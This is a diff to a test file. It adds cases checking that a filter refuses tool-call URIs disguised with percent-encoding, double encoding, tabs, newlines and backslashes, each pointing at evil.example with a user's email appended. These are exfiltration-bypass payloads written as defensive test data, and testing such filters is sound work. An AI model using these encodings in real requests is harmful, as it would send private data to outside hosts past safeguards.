@@ -154,6 +154,23 @@ describe('a call is refused with a surrogate', () => {
       ).toEqual({ refused: 'url' })
   })
 
+  it.each([
+    'crm://fetch?url=%68ttps%3aevil.example/',
+    'crm://fetch?url=%2568ttps:evil.example/',
+    'crm://fetch?url=%25%36%38ttps:evil.example/',
+    'crm://fetch?url=ht%09tps:evil.example/',
+    'crm:htt%70:evil.example/',
+    'crm://fetch?url=/%5cevil.example/',
+    'crm://fetch?url=%5c%5cevil.example/',
+    'crm://fetch?url=%252f%252fevil.example/',
+    'crm://fetch?url=/%0a/evil.example/',
+  ])('in an address that shows only where percent signs are read: %s', (before) => {
+    using world = openRestore()
+    const place = { ...UPDATE, tool: undefined }
+    const message = `{"method":"resources/read","params":{"uri":"${before}${world.email}"}}`
+    expect(world.planMessage(message, { place })).toEqual({ refused: 'url' })
+  })
+
   it('that is a number in an argument that is no sink, or would not become a number', () => {
     using world = openRestore()
     world.alias('credit_card', CARD, '1000000000000017', '4111 1111')
